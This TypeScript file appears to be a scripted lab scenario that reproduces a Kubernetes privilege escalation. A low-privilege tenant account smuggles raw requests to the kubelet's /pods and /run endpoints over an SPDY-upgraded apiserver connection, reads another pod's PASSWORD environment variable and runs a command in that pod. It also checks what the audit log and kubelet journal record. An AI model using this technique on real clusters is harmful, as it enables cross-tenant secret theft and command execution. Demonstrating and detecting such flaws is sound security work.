import { Transport } from '../../network/transport';
import { formatRequestHead } from '../../wire/http-head';
import { addresses, ports } from '../addresses';
import { createObjects } from '../create-workloads';
import { auditLog } from './audited';
import { playOf } from './play';
import { runPodWithPassword } from './pod-with-password';
import { nextAnswer } from './raw-http';

export const smuggledBehindUpgrade = playOf({
  steps: [
    'admin: kubectl run db --env=PASSWORD=…',
    'admin: kubectl -n tenant run mine …',
    'attacker: POST …/namespaces/tenant/pods/mine/exec?command=id, Upgrade: SPDY/3.1',
    'attacker: on the same connection: GET /pods',
    'attacker: on the same connection: POST /run/default/db/db?cmd=printenv+PASSWORD',
    'admin: journalctl -u kubelet, on node-1',
    'admin: grep mallory audit.log',
  ],
  async play(stage) {
    const { signal } = stage;
    const audit = await auditLog(stage);
    const cluster = await stage.cluster({
      apiserverFlags: [audit.flag],
    });
    const { attackerHost, admin, credentials, fabric } = cluster;
    const password = await runPodWithPassword(stage, cluster, 'node-1');
    const account = { namespace: 'tenant', name: 'mallory' };
    const rules = [{ apiGroups: [''], resources: ['pods/exec'], verbs: ['create'] }];
    const token = await credentials.token({ ...account, rules });
    const spec = { nodeName: 'node-1', containers: [{ name: 'mine', image: 'midplane/shell' }] };
    const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'mine', namespace: 'tenant' }, spec };
    await createObjects(admin, [{ path: '/api/v1/namespaces/tenant/pods', object: pod }]);
    await cluster.whenRunning('node-1', 'tenant', 'mine');
    await stage.did(
      'admin',
      'kubectl -n tenant run mine …',
      'pod/mine runs on node-1; mallory may create pods/exec',
    );

    const heard: string[] = [];
    const stop = fabric.timeline.subscribe(({ host, kind, data }) => {
      if (
        host === 'node-1' &&
        kind === 'request-received' &&
        data['user'] === 'kube-apiserver-kubelet-client'
      )
        heard.push(`${data['method']} ${String(data['path']).split('?')[0]}`);
    });
    const trust = () => cluster.clientTrust(addresses.controlPlane);
    const target = { host: addresses.controlPlane, port: ports.apiserver, scheme: 'https' as const };
    const peer = await new Transport({ from: attackerHost, trust }).connect(target, { signal });
    if (peer.kind === 'refusal') throw new Error(`the apiserver was not reached: ${peer.text}`);
    const { socket } = peer;
    socket.on('error', () => undefined);
    const write = (method: string, path: string, more: readonly (readonly [string, string])[] = []): void => {
      const headers = [['Host', 'kubernetes'], ['Content-Length', '0'], ...more] as const;
      if (socket.writable) socket.write(formatRequestHead({ method, target: path, headers }));
    };

    // Without stdin, stdout and stderr, which a kubelet refuses with 400.
    write('POST', '/api/v1/namespaces/tenant/pods/mine/exec?command=id&container=mine', [
      ['Authorization', `Bearer ${token}`],
      ['Connection', 'Upgrade'],
      ['Upgrade', 'SPDY/3.1'],
    ]);
    const refused = await nextAnswer(socket);
    const ask = async (method: string, path: string) => {
      write(method, path);
      return nextAnswer(socket);
    };
    // All at once, and told afterwards: a kubelet hangs up on a connection that is idle for 90 s, and somebody may be reading.
    const pods = await ask('GET', '/pods');
    const run = await ask('POST', '/run/default/db/db?cmd=printenv+PASSWORD');
    socket.destroy();
    stop();
    await stage.did(
      'attacker',
      'POST …/namespaces/tenant/pods/mine/exec?command=id, Upgrade: SPDY/3.1',
      `${refused?.status} ${refused?.body.trim()}`,
    );
    const list = 'on the same connection: GET /pods';
    const CLOSED = 'the apiserver has closed the connection';
    if (pods?.body.includes(password)) {
      const names = (JSON.parse(pods.body) as { items: { metadata: { name: string } }[] }).items;
      const saw = `200, ${names.length} pods of node-1; db has PASSWORD=${password}`;
      await stage.gained('attacker', list, saw, 'every pod of the node with its environment');
    } else
      await stage.refused('attacker', list, pods === null ? CLOSED : `${pods.status} ${pods.body.trim()}`);
    const command = 'on the same connection: POST /run/default/db/db?cmd=printenv+PASSWORD';
    if (run?.body.includes(password))
      await stage.gained(
        'attacker',
        command,
        `200 ${run.body.trim()}`,
        'a command run in the pod of somebody else',
      );
    else await stage.refused('attacker', command, run === null ? CLOSED : `${run.status} ${run.body.trim()}`);

    await stage.did('admin', 'journalctl -u kubelet, on node-1', heard.join(', '));
    const told = await audit.told(cluster, `system:serviceaccount:${account.namespace}:${account.name}`);
    await stage.did('admin', 'grep mallory audit.log', told.join(', '));
  },
});
